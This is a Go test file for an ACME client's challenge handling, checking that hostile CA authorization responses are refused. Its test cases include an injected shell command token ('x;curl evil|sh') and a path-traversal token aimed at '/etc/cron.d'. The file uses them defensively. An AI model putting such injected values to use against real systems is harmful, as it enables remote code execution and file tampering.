package ca

import (
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/mholt/acmez/v3/acme"

	"deputy/fault"
)

// ordered opens an order at f for these names.
func ordered(t *testing.T, f *fakeCA, c *Client, texts ...string) Order {
	t.Helper()
	o, err := c.NewOrder(t.Context(), made(t, f), Wanted{Names: names(t, texts...)})
	if err != nil {
		t.Fatal(err)
	}
	return o
}

func TestChallenges(t *testing.T) {
	t.Parallel()
	f := newFake(t, nil)
	c, _ := f.client(t)
	a := made(t, f)
	o := ordered(t, f, c, "a.example", "*.a.example", "b.example")
	f.orders[0].told["b.example"] = true // proved before
	got, err := c.Challenges(t.Context(), a, o)
	if err != nil || len(got) != 2 {
		t.Fatalf("%+v, %v", got, err)
	}
	key, _ := ParseKey(a.Key)
	thumbprint, _ := (&acme.Account{PrivateKey: key}).Thumbprint()
	digest := sha256.Sum256([]byte("t." + thumbprint))
	want := base64.RawURLEncoding.EncodeToString(digest[:])
	for i, text := range []string{"a.example", "*.a.example"} {
		if got[i].Name.String() != text || got[i].Value != want || got[i].URL != f.URL+"/challenge/1/"+text || got[i].Authorization != o.Authorizations[i] {
			t.Errorf("%+v", got[i])
		}
	}
	if f.counts()["authorization"] != 3 || f.counts()["challenge"] != 0 {
		t.Errorf("asked for %s", f.sequence())
	}
}

// authz is the body of an authorization with one dns-01 challenge.
func authz(identifier, status, challenge string) string {
	return fmt.Sprintf(`{"status":%q,"identifier":{"type":"dns","value":%q},"challenges":[%s]}`, status, identifier, challenge)
}

func TestHostileAuthorizations(t *testing.T) {
	t.Parallel()
	dns01 := func(token string) string {
		return fmt.Sprintf(`{"type":"dns-01","status":"pending","url":"https://ca.example/c","token":%q}`, token)
	}
	for what, test := range map[string]struct {
		body string
		code fault.Code
	}{
		"token of a path":       {authz("a.example", "pending", dns01("../../../etc/cron.d/x")), fault.CARefused},
		"token for a shell":     {authz("a.example", "pending", dns01("x;curl evil|sh")), fault.CARefused},
		"token of two lines":    {authz("a.example", "pending", dns01("x\ny")), fault.CARefused},
		"token with a newline":  {authz("a.example", "pending", dns01("x\n")), fault.CARefused},
		"empty token":           {authz("a.example", "pending", dns01("")), fault.CARefused},
		"token too long":        {authz("a.example", "pending", dns01(strings.Repeat("x", 129))), fault.CARefused},
		"no token":              {authz("a.example", "pending", `{"type":"dns-01","status":"pending","url":"https://ca.example/c"}`), fault.CARefused},
		"challenge over http":   {authz("a.example", "pending", `{"type":"dns-01","status":"pending","url":"http://ca.example/c","token":"t"}`), fault.CARefused},
		"only others":           {authz("a.example", "pending", `{"type":"http-01","url":"https://ca.example/c","token":"t"},{"type":"new-07"}`), fault.CARefused},
		"no challenges":         {authz("a.example", "pending", ""), fault.CARefused},
		"a foreign name":        {authz("bank.example", "pending", dns01("t")), fault.CAFailed},
		"a path as name":        {authz("../a.example", "pending", dns01("t")), fault.CAFailed},
		"a wildcard not wanted": {`{"status":"pending","wildcard":true,"identifier":{"type":"dns","value":"a.example"},"challenges":[]}`, fault.CAFailed},
		"an address":            {`{"status":"pending","identifier":{"type":"ip","value":"192.0.2.1"},"challenges":[]}`, fault.CAFailed},
		"garbage":               {`<html>`, fault.CAFailed},
		"invalid already":       {authz("a.example", "invalid", `{"type":"dns-01","status":"invalid","error":{"type":"urn:ietf:params:acme:error:unauthorized","detail":"wrong TXT"}}`), fault.CAValidation},
		"deactivated":           {authz("a.example", "deactivated", dns01("t")), fault.CAValidation},
		"of unknown status":     {authz("a.example", "dreaming", dns01("t")), fault.CAValidation},
	} {
		f := newFake(t, func(resource string, _ int, _ string) reply {
			if resource == "authorization" {
				return reply{status: 200, body: test.body}
			}
			return reply{}
		})
		c, _ := f.client(t)
		got, err := c.Challenges(t.Context(), made(t, f), ordered(t, f, c, "a.example"))
		wantFault(t, err, test.code)
		if len(got) != 0 || f.counts()["challenge"] != 0 {
			t.Errorf("%s: %+v after %s", what, got, f.sequence())
		}
	}
}

func TestTheCAsOwnKeyAuthorizationIsNotUsed(t *testing.T) {
	t.Parallel()
	f := newFake(t, func(resource string, _ int, _ string) reply {
		if resource == "authorization" {
			return reply{status: 200, body: authz("a.example", "pending", `{"type":"dns-01","url":"https://ca.example/c","token":"t","keyAuthorization":"t.of-somebody-else"}`)}
		}
		return reply{}
	})
	c, _ := f.client(t)
	got, err := c.Challenges(t.Context(), made(t, f), ordered(t, f, c, "a.example"))
	foreign := acme.Challenge{KeyAuthorization: "t.of-somebody-else"}.DNS01KeyAuthorization()
	if err != nil || len(got) != 1 || got[0].Value == foreign || len(got[0].Value) != 43 {
		t.Errorf("%+v, %v", got, err)
	}
}

func TestTooManyAuthorizations(t *testing.T) {
	t.Parallel()
	urls := strings.TrimSuffix(strings.Repeat(`"https://ca.example/a",`, maxAuthorizations+1), ",")
	_, err := parseOrder("https://ca.example/o", answer{body: []byte(`{"status":"pending","authorizations":[` + urls + `]}`)})
	if err == nil {
		t.Error("accepted")
	}
}

func TestRespond(t *testing.T) {
	t.Parallel()
	refused := reply{status: 400, body: problem("malformed", "Cannot update challenge with status processing, only status pending")}
	status := func(authzStatus, challengeStatus string) string {
		return authz("a.example", authzStatus, fmt.Sprintf(`{"type":"dns-01","status":%q,"url":"URL/challenge/1/a.example","token":"t"}`, challengeStatus))
	}
	for what, test := range map[string]struct {
		challenge reply
		authz     string // what the CA says of it afterwards; "" for what it usually says
		code      fault.Code
		sequence  string
	}{
		"taken":                       {reply{}, "", "", "challenge"},
		"answer lost":                 {reply{lose: true}, "", "", "challenge challenge"},
		"busy":                        {reply{status: 503, header: map[string]string{"Retry-After": "1"}}, "", "", "challenge challenge"},
		"refused, since it is at it":  {refused, status("pending", "processing"), "", "challenge authorization"},
		"refused, since it is valid":  {refused, status("valid", "valid"), "", "challenge authorization"},
		"refused, since it failed":    {refused, status("invalid", "invalid"), fault.CAValidation, "challenge authorization"},
		"refused, and nobody knows":   {refused, status("pending", "pending"), fault.CARefused, "challenge authorization"},
		"refused for another reason":  {reply{status: 403, body: problem("unauthorized", "no")}, "", fault.CARefused, "challenge"},
		"refused, and can't be asked": {refused, "<html>", fault.CAFailed, "challenge authorization"},
	} {
		f := newFake(t, nil)
		f.on = func(resource string, nth int, _ string) reply {
			if resource == "authorization" && test.authz != "" {
				return reply{status: 200, body: strings.ReplaceAll(test.authz, "URL", f.URL)}
			}
			return first("challenge", test.challenge)(resource, nth, "")
		}
		c, _ := f.client(t)
		a, o := made(t, f), ordered(t, f, c, "a.example")
		ch := Challenge{Name: o.Names[0], Authorization: o.Authorizations[0], URL: f.URL + "/challenge/1/a.example"}
		f.log = nil
		err := c.Respond(t.Context(), a, []Challenge{ch})
		if got, _ := fault.From(err); (err == nil) != (test.code == "") || err != nil && got.Code != test.code {
			t.Errorf("%s: %v", what, err)
		}
		if f.sequence() != test.sequence {
			t.Errorf("%s: asked for %s", what, f.sequence())
		}
	}
}

func TestRespondSendsAnEmptyObject(t *testing.T) {
	t.Parallel()
	f := newFake(t, nil)
	c, _ := f.client(t)
	a, o := made(t, f), ordered(t, f, c, "a.example", "b.example", "c.example")
	challenges, err := c.Challenges(t.Context(), a, o)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Respond(t.Context(), a, challenges); err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(f.payloads["challenge"], ""); got != "{}{}{}" || len(f.orders[0].told) != 3 {
		t.Errorf("%q, %v", got, f.orders[0].told)
	}
}

// FuzzAuthorization: a challenge that comes out is for a name, and has a value of 43 octets and an https URL.
func FuzzAuthorization(f *testing.F) {
	f.Add([]byte(authz("a.example", "pending", `{"type":"dns-01","url":"https://ca.example/c","token":"t"}`)))
	f.Add([]byte(`{"status":"pending","wildcard":true,"identifier":{"type":"dns","value":"*.*.a"},"challenges":[{"type":"dns-01","token":"\u0000"}]}`))
	f.Add([]byte(`{"challenges":[null,{}],"identifier":null}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		z, err := parseAuthorization("https://ca.example/a", answer{body: body})
		if err != nil {
			return
		}
		found, err := (&Client{}).open(z, "thumbprint")
		if err != nil {
			if got, ok := fault.From(err); !ok || got.Do == "" {
				t.Errorf("%v", err)
			}
			return
		}
		for _, ch := range found {
			if ch.Name.Labels() < 2 || len(ch.Value) != 43 || !strings.HasPrefix(strings.ToLower(ch.URL), "https://") {
				t.Errorf("%+v", ch)
			}
		}
	})
}
